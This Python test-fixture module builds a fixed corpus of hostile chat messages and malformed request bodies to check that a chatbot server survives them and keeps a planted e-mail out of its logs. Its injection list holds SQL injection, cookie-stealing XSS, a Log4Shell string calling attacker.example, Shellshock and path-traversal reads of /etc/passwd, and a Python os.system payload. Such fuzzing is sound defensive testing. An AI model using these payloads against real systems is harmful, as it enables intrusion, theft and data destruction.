"""A fixed corpus of hostile messages for tests/test_hostile.py: what an attacker would type.

Every message is a string the assistant must answer (or refuse with a reason): odd Unicode,
control characters, injection strings, slash commands with odd entities, very long and
regex-hostile shapes. Some carry a planted e-mail address (`PLANTED`), which must never reach
the servers' log. `bodies()` adds what is not a message at all: JSON of the wrong shape.
"""

from __future__ import annotations

import json
from itertools import product

PLANTED = "planted.hostile@example.com"
INTENTS = [
    "greet",
    "search_resources",
    "resource_details",
    "faq",
    "choose_activity",
    "inform_activity",
    "activity_steps",
    "helpful",
    "not_helpful",
    "out_of_scope",
    "urgent_emergency",
    "nlu_fallback",
    "restart",
    "session_start",
    "action_listen",
    "no_such_intent",
]
ENTITY_VALUES = [
    {"$ne": 1},
    [1, 2, 3],
    12345,
    -1.5e308,
    None,
    True,
    "",
    "x" * 2000,
    {"nested": {"deeper": [{"deepest": "a"}]}},
    "'; DROP TABLE resources; --",
    "<img src=x onerror=alert(1)>",
    PLANTED,
]
ODD_UNICODE = [
    "\u202eevil right to left\u202c what is an mnvp",
    "zero\u200bwidth\u200cjoin\u200dand\ufeffbom",
    "combining" + "\u0301" * 200,
    "👩‍👩‍👧‍👦" * 50,
    "ｆｕｌｌｗｉｄｔｈ ｍｎｖｐ",
    "Ꮃhat іs аn МΝVР",  # Cherokee, Cyrillic and Greek look-alikes
    "\ud83d\ude00 emoji",
    "\U0010ffff\U000e0001 private and tag characters",
    "ﷺ" * 100,
    "Z̴̡̢̛̛̛̮̞̲͓̹̰̙̪̺̝̈́̈́̾̓̿̽̔̾a̸̡̛̠̯̳̺̗̪̙̪̙̔̄l̸̨̧̛̛̮̗̥̬̦͚̹̪̀̍g̷o",
    "\u0000\u0001\u0002\u0007\u0008\u001b[31mred\u001b[0m",
    "\r\n\r\n\t\t\v\f",
    "\u2028line\u2029paragraph",
    "Ω≈ç√∫˜µ≤≥÷ åß∂ƒ©˙∆˚¬…æ",
    "漢字 かな カナ 한국어 العربية עברית हिन्दी",
]
INJECTIONS = [
    "' OR '1'='1",
    "1; DROP TABLE unmet_needs; --",
    "<script>alert(document.cookie)</script>",
    "javascript:alert(1)",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "${jndi:ldap://attacker.example/a}",
    "../../../../etc/passwd",
    "%s%s%s%s%n%x%p",
    "[click me](javascript:alert(1))",
    '{"sender": "other", "message": "hi"}',
    "\\u0000\\x00 escaped",
    "() { :; }; /bin/bash -c 'cat /etc/passwd'",
    '<!--#exec cmd="ls" -->',
    "SELECT * FROM events WHERE sender_id = 'x'",
    "__import__('os').system('id')",
]
SHAPES = {
    "capitalised": "Xq Zv ",
    "e-mail run": "a",
    "dotted": "a@b.",
    "sign-off": ", Ab",
    "dashes": "- x ",
    "spaces": " ",
    "digits": "0 7 ",
    "name is": "my name is ",
    "brackets": "[(",
    "slashes": "/",
}
SHAPE_LENGTHS = (1_000, 10_000, 30_000)
BASES = [
    "what is an mnvp",
    "where is the gap analysis tool",
    "i'm bleeding heavily",
    "hello",
    f"my email is {PLANTED} can you help",
]


def corpus() -> list[str]:
    """The fixed corpus: about 600 messages, always the same."""
    messages: list[str] = []
    for intent, value in product(INTENTS, ENTITY_VALUES):
        messages.append(f"/{intent}" + json.dumps({"topic": value, "resource_id": value}))
    for intent in INTENTS:
        messages += [
            f"/{intent}",
            f"/{intent}{{",
            f'/{intent}{{"topic": "{PLANTED}"',
            f"/{intent}@1.5",
            f"/{intent}@nan{{}}",
            f"/{intent}[]",
        ]
    messages += ["/", "//", "/ ", "/{}", "/@", "/" * 500]
    for odd, base in product(ODD_UNICODE + INJECTIONS, BASES):
        messages.append(f"{odd} {base}")
    for shape, length in product(SHAPES.values(), SHAPE_LENGTHS):
        messages.append((shape * (length // len(shape) + 1))[:length])
    messages.append("I have a question about the meeting. " * 400 + "I'm bleeding heavily right now")
    messages += ["", " ", "\n", "\u00a0", "?", "!!!", "." * 5000]
    return messages


def bodies() -> list[bytes]:
    """Request bodies that are not a message: JSON of the wrong shape, or not JSON at all."""
    values: list[object] = [
        [],
        {},
        "x",
        None,
        0,
        1.5,
        True,
        [{"sender": "s", "message": "hi"}],
        {"sender": "s"},
        {"message": None},
        {"sender": "s", "message": 5},
        {"sender": "s", "message": ["a", PLANTED]},
        {"sender": "s", "message": {"text": PLANTED}},
        {"sender": "s", "message": True},
        {"sender": ["s"], "message": "hi"},
        {"sender": {"$ne": 1}, "message": "hi"},
        {"sender": "", "message": "hi"},
        {"sender": "s" * 1000, "message": "hi"},
        {"sender": "s", "message": "hi", "metadata": "x"},
        {"sender": "s", "message": "hi", "metadata": [1]},
    ]
    raw = [json.dumps(v).encode() for v in values]
    raw += [
        b"",
        b"not json",
        b"{",
        b'{"sender": "s", "message": "hi"',
        b"\xff\xfe\x00",
        b'{"sender": "s", "message": "\xff"}',
        b"[" * 20_000 + b"]" * 20_000,
        b'{"a":' * 10_000 + b"1" + b"}" * 10_000,
        ("{" + '"k": 1, ' * 5000 + '"message": "hi"}').encode(),
    ]
    return raw
